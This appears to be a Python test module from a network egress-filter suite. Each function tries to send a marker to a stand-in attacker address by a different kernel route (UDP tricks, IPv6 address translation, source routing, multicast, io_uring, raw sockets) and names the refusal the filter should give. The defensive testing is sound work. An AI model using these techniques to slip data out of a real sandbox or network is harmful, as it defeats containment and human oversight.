# SPDX-License-Identifier: MIT
"""Ordinary sockets, by every door that the kernel has to them."""
import ipaddress
import os
import socket
import struct
import threading
import time

import craft
from kernel import (IP_OPTIONS, IP_TRANSPARENT, IPPROTO_MPTCP, IPV6_FREEBIND, IPV6_RTHDR, IPV6_TRANSPARENT,
                    MSG_FASTOPEN, MSG_ZEROCOPY, Ring, SO_BINDTODEVICE, SO_MARK, SO_ZEROCOPY, TCP_FASTOPEN_CONNECT,
                    TCP_FASTOPEN_NO_COOKIE, UDP_CORK, UDP_SEGMENT, address_of)
from table import BRIDGE, attack, ends, packed, unseen

THEME = "sockets"
REFUSED_NAME = ("connect", "address-not-allowed")
REFUSED_KIND = ("connect", "protocol-not-allowed")


@attack(THEME, "a TCP connection", *REFUSED_NAME)
def tcp(t):
    t.connected(t.to, t.port).send(t.marker)


@attack(THEME, "a TCP connection on port 443", *REFUSED_NAME)
def tcp_443(t):
    t.connected(t.to, 443).send(t.marker)


@attack(THEME, "another port of an allowed address", "connect", "port-not-allowed")
def tcp_other_port(t):
    t.connected(t.allowed, 80).send(t.marker)


@attack(THEME, "a UDP datagram", *REFUSED_KIND)
def udp(t):
    t.socket().sendto(t.marker, (t.to, t.port))


@attack(THEME, "a UDP datagram on port 443 (QUIC) to an allowed address", *REFUSED_KIND)
def udp_quic(t):
    t.socket().sendto(t.marker, (t.allowed, 443))


@attack(THEME, "a datagram on a UDP socket connected to an allowed address", "cgroup", "protocol-not-allowed")
def udp_connected(t):
    s = t.socket()
    s.connect((t.allowed, 443))
    s.send(t.marker)


@attack(THEME, "a connected UDP socket that names the attacker in sendto()", *REFUSED_KIND)
def udp_connected_elsewhere(t):
    s = t.socket()
    s.connect((t.allowed, 443))
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "an IPv4-mapped address on an IPv6 socket, TCP", *REFUSED_NAME, families=(6,))
def mapped_tcp(t):
    t.connected("::ffff:203.0.113.66", t.port).send(t.marker)


@attack(THEME, "an IPv4-mapped address on an IPv6 socket, UDP", *REFUSED_KIND, families=(6,))
def mapped_udp(t):
    t.socket().sendto(t.marker, ("::ffff:203.0.113.66", t.port))


@attack(THEME, "a translated address (64:ff9b::/96)", *REFUSED_NAME, families=(6,),
        unseen="it is a bare SYN: see translated_udp")
def translated_tcp(t):
    t.connected("64:ff9b::203.0.113.66", t.port, 0.5).send(t.marker)


@attack(THEME, "a datagram to a translated address", *REFUSED_KIND, families=(6,))
def translated_udp(t):
    t.socket().sendto(t.marker, ("64:ff9b::203.0.113.66", t.port))


@attack(THEME, "a datagram to the translated address of an allowed one", *REFUSED_KIND, families=(6,))
def translated_allowed(t):
    t.socket().sendto(t.marker, ("64:ff9b::203.0.113.10", 443))


@attack(THEME, "an IPv4 address given to an IPv6 socket", *REFUSED_KIND, families=(6,))
def other_family(t):
    from kernel import checked, libc
    s = t.socket()
    to = struct.pack("HH4s8x", socket.AF_INET, socket.htons(t.port), packed("203.0.113.66"))
    checked(libc.sendto(s.fileno(), t.marker, len(t.marker), 0, to, len(to)), "sendto")


@attack(THEME, "an echo request from a ping socket", "cgroup", "protocol-not-allowed")
def ping(t):
    s = t.socket(socket.SOCK_DGRAM, craft.ICMP if t.family == 4 else craft.ICMP6)
    kind = 8 if t.family == 4 else 128
    s.sendto(bytes([kind]) + bytes(7) + t.marker, (t.to, 0))


@attack(THEME, "data in the first segment (fast open)", *REFUSED_NAME)
def fast_open(t):
    s = t.socket(socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.sendto(t.marker, MSG_FASTOPEN, (t.to, t.port))


@attack(THEME, "the same by TCP_FASTOPEN_CONNECT", *REFUSED_NAME)
def fast_open_connect(t):
    s = t.socket(socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect((t.to, t.port))
    s.send(t.marker)


@attack(THEME, "an MPTCP connection", *REFUSED_NAME)
def mptcp(t):
    s = t.socket(socket.SOCK_STREAM, IPPROTO_MPTCP)
    s.connect((t.to, t.port))
    s.send(t.marker)


@attack(THEME, "a datagram that the kernel cuts up (UDP_SEGMENT)", *REFUSED_KIND)
def udp_segment(t):
    s = t.socket()
    s.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 64)
    s.sendto(t.marker * 32, (t.to, t.port))


@attack(THEME, "a datagram larger than the link, so that the kernel makes fragments", *REFUSED_KIND)
def udp_large(t):
    t.socket().sendto(t.marker * 1000, (t.to, t.port))


@attack(THEME, "a datagram put together by UDP_CORK", *REFUSED_NAME)
def udp_cork(t):
    s = t.socket()
    s.connect((t.to, t.port))
    s.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 1)
    s.send(t.marker[:4])
    s.send(t.marker[4:])
    s.setsockopt(socket.IPPROTO_UDP, UDP_CORK, 0)


@attack(THEME, "MSG_ZEROCOPY", *REFUSED_KIND)
def udp_zerocopy(t):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    s.sendto(t.marker * 512, MSG_ZEROCOPY, (t.to, t.port))


@attack(THEME, "splice() from a pipe into a UDP socket connected to an allowed address", "cgroup",
        "protocol-not-allowed")
def splice(t):
    s = t.socket()
    s.connect((t.allowed, 443))
    r, w = os.pipe()
    os.write(w, t.marker)
    os.splice(r, s.fileno(), len(t.marker))


@attack(THEME, "sendfile() into a UDP socket connected to an allowed address", "cgroup", "protocol-not-allowed")
def sendfile(t):
    s = t.socket()
    s.connect((t.allowed, 443))
    fd = os.memfd_create("oh")
    os.write(fd, t.marker)
    os.sendfile(s.fileno(), fd, 0, len(t.marker))


@attack(THEME, "sendmmsg-like bursts from threads, of which one could slip by", *REFUSED_KIND)
def udp_burst(t):
    errors = []

    def burst():
        s = t.socket()
        for _ in range(200):
            try:
                s.sendto(t.marker, (t.to, t.port))
            except OSError as e:
                errors.append(e)
    threads = [threading.Thread(target=burst) for _ in range(4)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    if len(errors) == 800:
        raise errors[0]


@attack(THEME, "a socket bound to the uplink (SO_BINDTODEVICE)", *REFUSED_KIND)
def bound_to_uplink(t):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"eth0\0")
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "a socket bound to loopback that sends to the attacker", *REFUSED_KIND,
        unseen="the kernel drops it on loopback")
def bound_to_loopback(t):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"lo\0")
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "a loopback address as the source of what goes outside", *REFUSED_KIND,
        unseen="the kernel lets no loopback source out")
def loopback_source(t):
    s = t.socket()
    s.bind(("127.0.0.1" if t.family == 4 else "::1", 0))
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "the data as an address of 127.0.0.0/8, or the uplink's own: it must not leave", "", "",
        families=(4,), unseen="it stays on the machine by the kernel's own routing")
def own_addresses(t):
    s = t.socket()
    for address in ("127.1.2.3", t.source, "0.0.0.0"):
        s.sendto(t.marker, (address, 9))


@attack(THEME, "a source that is not ours (IP_TRANSPARENT)", *REFUSED_KIND)
def transparent(t):
    s = t.socket()
    if t.family == 4:
        s.setsockopt(socket.IPPROTO_IP, IP_TRANSPARENT, 1)
    else:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
    s.bind(("203.0.113.10" if t.family == 4 else "2001:db8:10::10", 0))
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "a source that is not ours (IPV6_FREEBIND)", *REFUSED_KIND, families=(6,))
def freebind(t):
    s = t.socket()
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    s.bind(("2001:db8:10::11", 0))
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "a mark that policy routing or a firewall may trust (SO_MARK)", *REFUSED_KIND, caps=("NET_ADMIN",))
def mark(t):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, SO_MARK, 0x1)
    s.sendto(t.marker, (t.to, t.port))


@attack(THEME, "a loose source route by way of the attacker (IP_OPTIONS), to an allowed address", "cgroup",
        "source-route", families=(4,),
        unseen="the lab's hosts take no source route, so that no connection comes up to carry the data")
def socket_source_route(t):
    s = t.socket(socket.SOCK_STREAM, timeout=0.5)
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, bytes([131, 7, 4]) + packed(t.to) + b"\1")
    s.connect((t.allowed, 443))
    s.send(t.marker)


@attack(THEME, "a segment-routing header set on the socket (IPV6_RTHDR)", "cgroup", "source-route", families=(6,))
def socket_routing_header(t):
    s = t.socket()
    by = packed(t.resolver if ":" in t.resolver else t.allowed)
    header = struct.pack("BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + by + packed(t.to)
    s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, header)
    s.connect((t.allowed, 443))
    s.send(t.marker)


@attack(THEME, "multicast", *REFUSED_KIND, container=unseen(BRIDGE))
def multicast(t):
    s = t.socket()
    if t.family == 6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
    s.sendto(t.marker, ("239.1.2.3" if t.family == 4 else "ff05::1234", t.port))


@attack(THEME, "multicast DNS", *REFUSED_KIND, container=unseen(BRIDGE))
def multicast_dns(t):
    s = t.socket()
    if t.family == 6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex("eth0"))
    s.sendto(craft.query(t.label + ".local"), ("224.0.0.251" if t.family == 4 else "ff02::fb", 5353))


@attack(THEME, "broadcast, to all and to the subnet", *REFUSED_KIND, families=(4,), container=unseen(BRIDGE))
def broadcast(t):
    s = t.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    error = None
    for to in ("255.255.255.255", "10.0.1.255"):
        try:
            s.sendto(t.marker, (to, t.port))
        except OSError as e:
            error = e
    if error:
        raise error


@attack(THEME, "the data as a multicast group to join: the kernel reports it by IGMP or MLD", "uplink",
        "protocol-not-allowed", container=ends(BRIDGE))
def multicast_join(t):
    s = t.socket()
    index = socket.if_nametoindex("eth0")
    if t.family == 4:
        group = bytes([239, *t.marker[2:5]])
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("=4s4si", group, bytes(4), index))
    else:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     b"\xff\x05" + bytes(6) + t.marker + struct.pack("=I", index))
    time.sleep(1.2)     # IGMPv3 and MLDv2 wait for up to a second before they report


@attack(THEME, "the data in a neighbour's address that must be asked for", *REFUSED_KIND)
def neighbour_lookup(t):
    to = "10.0.1.77" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
    t.socket().sendto(b"x", (to, 9))
    time.sleep(0.1)


# ---- io_uring ----

RING = "io_uring"


def sockaddr(t, address, port):
    if t.family == 4:
        return bytearray(struct.pack("HH4s8x", socket.AF_INET, socket.htons(port), packed(address)))
    return bytearray(struct.pack("HHI16sI", socket.AF_INET6, socket.htons(port), 0, packed(address), 0))


@attack(RING, "connect and send", *REFUSED_NAME)
def ring_tcp(t):
    ring, s, to, data = Ring(), t.socket(socket.SOCK_STREAM), sockaddr(t, t.to, t.port), bytearray(t.marker)
    s.settimeout(None)
    ring.call(16, s.fileno(), address_of(to), 0, len(to))       # IORING_OP_CONNECT
    ring.call(26, s.fileno(), address_of(data), len(data))      # IORING_OP_SEND


def ring_datagram(t, flags, opcode):
    ring, s, to, data = Ring(flags), t.socket(), sockaddr(t, t.to, t.port), bytearray(t.marker)
    vector = bytearray(struct.pack("QQ", address_of(data), len(data)))
    message = bytearray(struct.pack("QI4xQQQQi4x", address_of(to), len(to), address_of(vector), 1, 0, 0, 0))
    ring.call(opcode, s.fileno(), address_of(message), 1)


@attack(RING, "sendmsg", *REFUSED_KIND)
def ring_udp(t):
    ring_datagram(t, 0, 9)


@attack(RING, "sendmsg from the kernel's own thread (SQPOLL)", *REFUSED_KIND)
def ring_thread(t):
    ring_datagram(t, 2, 9)


@attack(RING, "zero-copy sendmsg", *REFUSED_KIND)
def ring_zerocopy(t):
    ring_datagram(t, 0, 48)


@attack(RING, "a raw socket made by the ring", "sock_create", "raw-socket", families=(4,))
def ring_raw(t):
    # IORING_OP_SOCKET: type in off, protocol in len
    fd = Ring().call(45, socket.AF_INET, 0, socket.IPPROTO_RAW, socket.SOCK_RAW)
    data = craft.ip4(t.source, t.to, craft.UDP, craft.udp(t.source, t.to, 4444, t.port, t.marker))
    socket.socket(fileno=fd).sendto(data, (t.to, 0))
